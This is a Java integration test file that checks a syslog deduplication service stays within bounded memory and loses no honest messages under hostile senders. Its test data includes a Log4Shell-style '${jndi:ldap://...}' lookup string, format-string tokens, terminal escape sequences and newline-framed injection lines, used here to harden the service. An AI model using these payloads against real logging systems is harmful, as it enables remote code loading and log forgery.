package io.duplog.benchmark.journey;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.duplog.benchmark.lab.Cleanup;
import io.duplog.benchmark.lab.IngestNode;
import io.duplog.benchmark.lab.Lab;
import io.duplog.benchmark.lab.Syslog;
import io.duplog.benchmark.lab.TestPlans;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tests that whatever anybody tries who can send syslog, it costs a bounded amount of memory, and
 * the other senders lose nothing.
 */
class HostileSendersIT {
  private static final int NOTICEABLE = 500;
  private static final int KIBIBYTE = 1024;

  /** Memory of a bridge: a heap of 512 MiB, and what a Java machine takes beside it. */
  private static final long BRIDGE_KIBIBYTES = 768 * KIBIBYTE;

  /** Memory of a shim, with a heap of 48 MiB. */
  private static final long SHIM_KIBIBYTES = 200 * KIBIBYTE;

  private static final int REDIS_MEBIBYTES = 64;
  private static final int SENDERS = 100_000;

  /** Datagrams that rsyslog's receive buffer surely has room for. */
  private static final int BURST = 100;

  /** The default of {@code coverage.senders}. */
  private static final int PLACES = 1000;

  /** Bound on the names of a period: the first ones, and half as many regular ones. */
  private static final int MOST_NAMES = PLACES + PLACES / 2 + 10;

  /** Matches a sender's address between counts. */
  private static final Pattern NAME = Pattern.compile(" \\d+\\.[0-9.]+ ");

  private static @TempDir Path root;
  private static Lab lab;
  private static Cleanup cleanup;

  /** Does something to a node that a hostile sender can do. */
  private interface Hostility {
    void against(IngestNode node) throws IOException;
  }

  @BeforeAll
  static void start() throws Exception {
    Path directory = root.resolve("lab");
    lab = new Lab(TestPlans.pair(directory).withBridges(1));
    cleanup = new Cleanup(lab, List.of(directory));
    lab.start(line -> {});
    lab.store().redis().command("CONFIG", "SET", "maxmemory", REDIS_MEBIBYTES + "mb");
  }

  @AfterAll
  static void stop() {
    cleanup.close();
  }

  @AfterEach
  void everyProgram_runsAsBefore_inBoundedMemory() throws Exception {
    lab.requireAlive();
    for (Path log : lab.programLogs()) {
      assertThat(log).content(ISO_8859_1).doesNotContain("OutOfMemory", "closed its pipe");
    }
    assertThat(peakKibibytes(lab.bridges().get(0).server().pid())).isLessThan(BRIDGE_KIBIBYTES);
    for (IngestNode node : lab.nodes()) {
      List<ProcessHandle> shims = node.rsyslog().shims();
      assertThat(shims).as(node.stream()).hasSize(1);
      assertThat(peakKibibytes(shims.get(0).pid())).as("shim").isLessThan(SHIM_KIBIBYTES);
    }
    String used =
        lab.store()
            .redis()
            .command("INFO", "memory")
            .replaceAll("(?s).*used_memory_peak:(\\d+).*", "$1");
    assertThat(Long.parseLong(used)).isLessThan(2L * REDIS_MEBIBYTES * KIBIBYTE * KIBIBYTE);
  }

  @Test
  void longMessagesThatNothingCompresses_crowdNobodyOut() throws Exception {
    List<String> noise = new Random(1).longs(40 * 16).mapToObj(HostileSendersIT::noise).toList();

    assertOthersLoseNothing(node -> Syslog.sendCounted(node.rsyslog(), noise));
    await().until(() -> merged("<11>noise").size() >= noise.size());
    assertThat(merged("<11>noise")).hasSameSizeAs(noise);
  }

  @Test
  void hundredThousandSenders_takeTheRoomOfAThousand() throws Exception {
    assertOthersLoseNothing(HostileSendersIT::sendFromEverywhere);
    for (IngestNode node : lab.nodes()) {
      assertThat(node.rsyslog().droppedDatagrams()).as(node.stream()).isZero();
    }
    await()
        .pollInterval(Duration.ofSeconds(1))
        .until(() -> merged("<14>everybody").stream().distinct().count() == SENDERS);

    List<Integer> names = new ArrayList<>();
    for (String period : lab.store().redis().command("KEYS", "duplog:period:*").lines().toList()) {
      String counts = lab.store().redis().command("HVALS", period);
      names.add((int) NAME.matcher(counts).results().count());
    }
    assertThat(names)
        .allMatch(number -> number < MOST_NAMES)
        .as("a period that has all that there is room for")
        .anyMatch(number -> number >= PLACES);
    assertThat(ask(lab, "/metrics"))
        .contains("duplog_copies_received_total{")
        .doesNotContain("127.10.", "127.11.")
        .hasSizeLessThan(200 * KIBIBYTE);
    assertThat(ask(lab, "/api/state")).contains("\"streams\":").hasSizeLessThan(1000 * KIBIBYTE);
  }

  @Test
  void messagesMadeToBeMistaken_arriveOnce_asTheMessagesThatTheyAre() throws Exception {
    List<String> odd =
        List.of(
            "BEGIN TRANSACTION",
            "COMMIT TRANSACTION",
            "OK",
            "<>no priority",
            "<999999999999>too high a priority",
            "<13",
            "<13>Feb 31 99:99:99 host odd time",
            "<34>1 2026-99-99T99:99:99.999999999999Z host app - - - odd time",
            "<34>1 - - - - [broken@1 x=\"unfinished - odd structure",
            "<13>duplog-heartbeat 1",
            "<13>10.0.0.1 <13>another sender's",
            "<13>\u001b[2J\u009b31m a terminal's commands, in part escaped",
            "<13>${jndi:ldap://192.0.2.1/x} {} %n %s",
            "<13>invalid utf-8 \u00ff\u00fe\u00c3( \u0080",
            "<13>valid utf-8 \u00e2\u0082\u00ac",
            "<13>  two  spaces   and at the end  ",
            "<13>escaped by the sender #011 \\n \\\\ \"",
            "<13>tab\tbell\u0007end",
            "<13>long " + "x".repeat(63 * KIBIBYTE),
            "<13>one frame\n<13>not a second message\nCOMMIT TRANSACTION\nzero \u0000.");

    assertOthersLoseNothing(
        node -> {
          Syslog.sendCounted(node.rsyslog(), odd);
          Syslog.sendDatagram(node.rsyslog(), "127.0.0.1", "<13>by udp \u00ff");
        });
    await().until(() -> merged("<13>one frame").size() == 1);
    await().until(() -> merged("<13>by udp").contains("<13>by udp \u00ff"));
    assertThat(merged(""))
        .containsOnlyOnceElementsOf(odd.stream().map(HostileSendersIT::escaped).toList())
        .as("lines that no message ever was")
        .noneMatch(line -> line.startsWith("<13>not a second"));
  }

  @Test
  void log_saysNothingThatASenderWrote() throws Exception {
    for (IngestNode node : lab.nodes()) {
      Syslog.sendLines(node.rsyslog(), List.of("<13>marker-in-a-message"));
    }
    await().until(() -> !merged("<13>marker-in-a-message").isEmpty());
    assertThat(bridgeLog(lab))
        .doesNotContain("marker-in-a-message")
        .hasSizeLessThan(64 * KIBIBYTE)
        .matches(Pattern.compile("(\\d{4}-\\d\\d-\\d\\dT[^\\n]*\\n)+"));
  }

  /** Asserts that messages of others, which get through before the attack, all arrive unaltered. */
  private static void assertOthersLoseNothing(Hostility hostility) throws Exception {
    int linesBefore = merged("").size();
    try (HonestSenders others = new HonestSenders(lab)) {
      await().until(() -> others.delivered() > NOTICEABLE);
      CompletableFuture.allOf(
              lab.nodes().stream()
                  .map(node -> CompletableFuture.runAsync(() -> unchecked(hostility, node)))
                  .toArray(CompletableFuture[]::new))
          .join();
      others.end();
      await().until(() -> others.lost() == 0 && lab.queued() == 0);
      List<String> lines = merged("");
      assertThat(others.altered(lines.subList(linesBefore, lines.size()))).isZero();
    }
  }

  private static void unchecked(Hostility hostility, IngestNode node) {
    try {
      hostility.against(node);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String noise(long seed) {
    StringBuilder message = new StringBuilder("<11>noise ");
    // rsyslog would make four letters of a control character
    new Random(seed).ints(64 * KIBIBYTE - 10, ' ', '~').forEach(c -> message.append((char) c));
    return message.toString();
  }

  /**
   * Sends from every address of the machine's own loopback network, each of which is a sender of
   * its own to rsyslog.
   */
  private static void sendFromEverywhere(IngestNode node) throws IOException {
    for (int i = 0; i < SENDERS; i++) {
      String from = "127.1%d.%d.%d".formatted(i >> 16, (i >> 8) & 255, i & 255);
      Syslog.sendDatagram(node.rsyslog(), from, "<14>everybody " + i);
      if (i % BURST == BURST - 1) { // so that the kernel drops none
        await()
            .pollDelay(Duration.ZERO)
            .pollInterval(Duration.ofMillis(2))
            .until(() -> node.rsyslog().waitingDatagrams() == 0);
      }
    }
  }

  /** Escapes what controls a terminal, once, as rsyslog itself does. */
  private static String escaped(String message) {
    return Pattern.compile("[\u0000-\u001f]")
        .matcher(message)
        .replaceAll(control -> "#%03o".formatted((int) control.group().charAt(0)));
  }

  /** Returns the whole lines of the merged stream that begin so; \n alone ends a line. */
  private static List<String> merged(String begin) throws IOException {
    List<String> lines = new ArrayList<>();
    for (Path output : lab.outputs()) {
      String text = Files.exists(output) ? Files.readString(output, ISO_8859_1) : "";
      List<String> all = List.of(text.split("\n", -1));
      all.subList(0, all.size() - 1).stream().filter(l -> l.startsWith(begin)).forEach(lines::add);
    }
    return lines;
  }

  private static String bridgeLog(Lab of) throws IOException {
    return Files.readString(of.bridges().get(0).server().log());
  }

  /** Returns the most memory that a process had resident. */
  private static long peakKibibytes(long pid) throws IOException {
    return Files.readAllLines(Path.of("/proc/%d/status".formatted(pid))).stream()
        .filter(line -> line.startsWith("VmHWM:"))
        .mapToLong(line -> Long.parseLong(line.replaceAll("\\D", "")))
        .findFirst()
        .orElseThrow();
  }

  /** Asks the first bridge of a lab for a path of its page. */
  static String ask(Lab of, String path) throws Exception {
    Matcher url = Pattern.compile("health at (http://\\S+)").matcher(bridgeLog(of));
    assertThat(url.find()).isTrue();
    return HttpClient.newHttpClient()
        .send(
            HttpRequest.newBuilder(URI.create(url.group(1) + path)).build(),
            HttpResponse.BodyHandlers.ofString())
        .body();
  }
}
